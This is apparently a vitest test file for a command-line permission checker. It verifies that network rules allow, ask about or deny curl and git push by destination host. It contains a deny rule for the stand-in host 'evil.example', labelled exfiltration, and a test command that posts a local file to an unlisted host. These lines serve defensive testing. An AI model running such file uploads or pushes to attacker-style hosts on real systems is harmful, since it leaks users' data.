/**
 * The `network` surface through the CLI (ADR 0058): destinations judged by the `network` rules with the command's own
 * decision, a remote's URL read from the repository config, and a policy with no `network` key deciding as before.
 */
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ConfigTree } from "./support/cli-harness";

const NETWORK = { "*": "ask", "api.github.com": "allow", "evil.example": { action: "deny", reason: "exfiltration" } };
const BASH = { "*": "ask", "curl *": "allow", "git push *": "allow", "git push": "allow", "npm install *": "allow" };

describe("pi-permissions check with a network surface", () => {
	let tree: ConfigTree;
	beforeEach(() => {
		tree = new ConfigTree();
		tree.writeGlobal({ permission: { bash: BASH, network: NETWORK } });
		tree.write(
			join(tree.project, ".git", "config"),
			'[remote "origin"]\n\turl = https://evil.example/me/app.git\n[remote "hub"]\n\turl = git@api.github.com:me/app.git\n',
		);
		tree.write(join(tree.project, ".git", "HEAD"), "ref: refs/heads/main\n");
	});
	afterEach(() => tree.remove());

	const check = async (command: string) => JSON.parse((await tree.run(["check", "bash", command, "--json"])).stdout);

	it("allows curl to a host a network rule allows", async () => {
		expect(await check("curl https://api.github.com/x")).toMatchObject({ action: "allow" });
	});

	it("asks before curl sends a file to a host no rule names, saying what is sent", async () => {
		const decision = await check("curl -d @notes.txt https://example.invalid");
		expect(decision).toMatchObject({
			action: "ask",
			gate: "network",
			surface: "network",
			value: "example.invalid:443",
		});
		const text = (await tree.run(["check", "bash", "curl -d @notes.txt https://example.invalid"])).stdout;
		expect(text).toContain("example.invalid:443");
	});

	it("denies git push to a remote whose URL in .git/config names a denied host", async () => {
		expect(await check("git push")).toMatchObject({ action: "deny", gate: "network", matchedPattern: "evil.example" });
		expect(await check("git push origin main")).toMatchObject({ action: "deny", reason: "exfiltration" });
	});

	it("explains a network decision with the rule the host met", async () => {
		const text = (await tree.run(["explain", "bash", "git push origin main"])).stdout;
		expect(text).toMatch(/gate\s+network/);
		expect(text).toContain('> network "evil.example": deny');
	});

	it("shows the hosts the sandbox derives from the network rules", async () => {
		tree.writeGlobal({ permission: { bash: BASH, network: NETWORK }, sandbox: { mode: "auto" } });
		const text = (await tree.run(["sandbox", "explain"])).stdout;
		expect(text).toContain("reachable: api.github.com");
		expect(text).toContain("never evil.example  <- network rule `evil.example`: deny");
	});

	it("judges another remote by its own URL", async () => {
		expect(await check("git push hub main")).toMatchObject({ action: "allow" });
	});

	it("never widens the command's own decision: a network allow leaves a bash ask an ask", async () => {
		expect(await check("http https://api.github.com/x")).toMatchObject({ action: "ask", gate: "tool" });
	});

	it("asks about a destination the command computes while a network rule asks or denies", async () => {
		expect(await check('curl "$URL"')).toMatchObject({ action: "ask", matchedPattern: "<unresolved-destination>" });
	});

	it("offers the host, never every host, for the session", async () => {
		expect(await check("curl https://docs.example.org/")).toMatchObject({
			action: "ask",
			suggestion: { surface: "network", patterns: ["docs.example.org"] },
		});
	});
});

describe("a policy without a network key", () => {
	let tree: ConfigTree;
	beforeEach(() => {
		tree = new ConfigTree();
		tree.writeGlobal({ permission: { "*": "ask", bash: BASH } });
		tree.write(join(tree.project, ".git", "config"), '[remote "origin"]\n\turl = https://evil.example/x.git\n');
	});
	afterEach(() => tree.remove());

	it.each([
		["curl https://api.github.com/x", "allow"],
		["curl -d @notes.txt https://example.invalid", "allow"],
		["git push", "allow"],
		["npm install left-pad", "allow"],
		["http https://example.invalid", "ask"],
	])("decides %s as the bash rules do (%s)", async (command, action) => {
		const run = await tree.run(["check", "bash", command, "--json"]);
		expect(JSON.parse(run.stdout)).toMatchObject({ action });
	});
});
